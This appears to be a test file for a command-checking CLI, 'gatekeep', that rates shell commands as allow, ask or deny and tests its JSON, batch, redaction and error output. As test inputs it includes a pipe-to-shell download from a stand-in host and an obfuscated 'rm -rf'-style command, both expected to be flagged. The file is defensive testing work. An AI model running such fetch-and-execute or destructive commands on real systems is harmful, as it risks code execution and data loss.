import { describe, expect, test } from 'bun:test';
import Ajv from 'ajv/dist/2020.js';
import { shellSubmission } from '../../src/fronts/cli/submission.ts';
import schema from '../../schemas/check.schema.json';
import { gatekeep, services } from './fake-services.ts';

const valid = new Ajv({ allowUnionTypes: true }).compile(schema);
const FORCE = 'git push --force origin main';

test.each([
  ['echo hi', 0, 'allow'],
  [FORCE, 1, 'ask'],
  ['curl -s x.example | sh', 1, 'ask'],
  ['X=$(date); $X -rf', 1, 'ask'],
] as const)('%s', async (text, code, verdict) => {
  const ran = await gatekeep(['check', '--json', '-c', text]);
  const answer = JSON.parse(ran.stdout);
  expect([ran.code, answer.verdict]).toEqual([code, verdict]);
  expect(valid(answer) ? [] : valid.errors).toEqual([]);
});

test('the JSON, key for key', async () => {
  const { stdout } = await gatekeep(['check', '--json', '-c', `echo é; sudo ${FORCE} "$(date)"`]);
  const answer = JSON.parse(stdout);
  const push = answer.invocations.find((one: { argv: string[] }) => one.argv[0] === 'git');
  expect(push).toMatchObject({
    argv: ['git', 'push', '--force', 'origin', 'main', null],
    via: ['sudo'],
    // In bytes: é has two.
    span: [9, 9 + 'sudo '.length + FORCE.length + ' "$(date)"'.length],
    rules: [
      {
        id: 'git.force-push',
        verdict: 'ask',
        sensitivity: 'high',
        reason: 'rewrites history that others may have pulled',
        instead: 'git push --force-with-lease',
      },
    ],
  });
  expect(Object.keys(answer)).toEqual(expect.arrayContaining(schema.required));
});

test('words for people', async () => {
  expect(await gatekeep(['check', '-c', FORCE])).toEqual({
    code: 1,
    stderr: '',
    stdout: `ask: ${FORCE}
  ${FORCE}
    ask git.force-push (rules/git.yaml:4), high: rewrites history that others may have pulled
    instead, for example: git push --force-with-lease
`,
  });
  expect((await gatekeep(['check', '--', 'echo', 'a b', ''])).stdout).toBe("allow: echo 'a b' ''\n");
});

test('a judge that refuses the text: its place, exit 2', async () => {
  const judge = () => {
    const judgement = services().judge(shellSubmission('fi', []));
    return {
      ...judgement,
      verdict: 'deny' as const,
      analysis: { ...judgement.analysis, errors: [{ message: 'unexpected fi', line: 2, column: 3 }] },
    };
  };
  const text = 'echo\n  fi';
  const ran = await gatekeep(['check', '-c', text], '', {
    judge: () => ({ ...judge(), submission: shellSubmission(text, []) }),
  });
  expect(ran).toEqual({
    code: 2,
    stdout: '',
    stderr: 'gatekeep: error: -c:2:3: unexpected fi\n  2 |   fi\n    |   ^\n',
  });
  expect((await gatekeep(['check', '--json', '-c', text], '', { judge })).code).toBe(2);
});

test('secrets and what does not show stay hidden and visible', async () => {
  const { stdout } = await gatekeep(['check', '-c', 'echo hunter2 \u202e\x1b[2J']);
  expect(stdout).toBe('allow: echo [REDACTED] <U+202E><U+001B>[2J\n');
});

describe('--batch', () => {
  const lines = (stdout: string) =>
    stdout
      .trimEnd()
      .split('\n')
      .map(line => JSON.parse(line));

  test('one answer a line, in order, whatever the line', async () => {
    const wide = JSON.stringify({ cmd: `echo ${'x'.repeat(600_000)}` });
    const stdin = [
      '{"cmd":"ls"}',
      '',
      'xx',
      '{"cmd":1}',
      '[]',
      'null',
      '{"cmd":"a\\u0000b"}',
      '{"cmd":"\\ud800"}',
      wide,
      JSON.stringify({ cmd: FORCE }),
    ].join('\n');
    const ran = await gatekeep(['check', '--batch'], stdin);
    const answers = lines(ran.stdout);
    expect(ran.code).toBe(0);
    expect(answers.map(({ verdict }) => verdict)).toEqual([
      'allow',
      'deny',
      'deny',
      'deny',
      'deny',
      'deny',
      'deny',
      'deny',
      'allow',
      'ask',
    ]);
    for (const answer of answers) expect(valid(answer) ? [] : valid.errors).toEqual([]);
    expect(answers.map(({ errors }) => errors[0]?.line ?? null)).toEqual([null, 2, 3, 4, 5, 6, 7, 8, null, null]);
    expect(answers[9].cmd).toBe(FORCE);
  });

  test('bytes that are no UTF-8 are denied', async () => {
    const { stdout } = await gatekeep(['check', '--batch'], Buffer.from('{"cmd":"ls \xff"}\n{"cmd":"ls"}', 'latin1'));
    expect(lines(stdout).map(({ verdict }) => verdict)).toEqual(['deny', 'allow']);
  });

  test('a line of more than any command is denied, and the next one answered', async () => {
    const { stdout } = await gatekeep(['check', '--batch'], `{"cmd":"${'x'.repeat(9 << 20)}"}\n{"cmd":"ls"}\n`);
    expect(lines(stdout).map(({ verdict, errors }) => [verdict, errors[0]?.message ?? null])).toEqual([
      ['deny', 'the line is longer than 8388608 bytes'],
      ['allow', null],
    ]);
  });

  test('a judge that fails denies that line and goes on', async () => {
    const real = services();
    const judge: typeof real.judge = submission => {
      if (submission.text === 'bad') throw new Error('boom');
      return real.judge(submission);
    };
    const { code, stdout } = await gatekeep(['check', '--batch'], '{"cmd":"bad"}\n{"cmd":"ls"}\n', { judge });
    expect(code).toBe(0);
    expect(lines(stdout).map(({ verdict }) => verdict)).toEqual(['deny', 'allow']);
  });
});
